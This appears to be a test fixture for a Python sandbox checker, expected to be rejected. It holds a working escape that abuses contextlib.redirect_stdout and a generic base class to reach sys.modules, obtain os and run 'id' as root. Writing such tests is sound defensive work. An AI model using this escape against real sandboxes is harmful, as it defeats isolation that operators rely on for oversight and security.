# expect: reject attribute
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# Mechanism: a decorated class statement whose decorator returns Names[int]: used as a base, its
#   __mro_entries__ mixes Names (whose property _stream looked closed) with
#   contextlib.redirect_stdout.
# Goal reached: os as a value; ran a process (id).
# Output seen under python3 (3.11.7), in a throw-away temp dir:
#   <module 'os' (frozen)>
#   uid=0(root) gid=0(root) groups=0(root)
import contextlib
import sys
import typing

T = typing.TypeVar("T")


class Names(typing.Generic[T]):
    order = ["modules", "argv", "argv"]

    @property
    def _stream(self):
        return self.order.pop(0) if self.order else "stdout"


def as_names(cls):
    return Names[int]


# a decorated class statement: its name is bound to what the decorator returns,
# Names[int], whose __mro_entries__ puts Names among Redirect's bases
@as_names
class Base:
    pass


class Redirect(Base, contextlib.redirect_stdout):
    pass


with Redirect(None):
    pass
modules = sys.argv
print(modules["os"])
modules["os"].system("id")
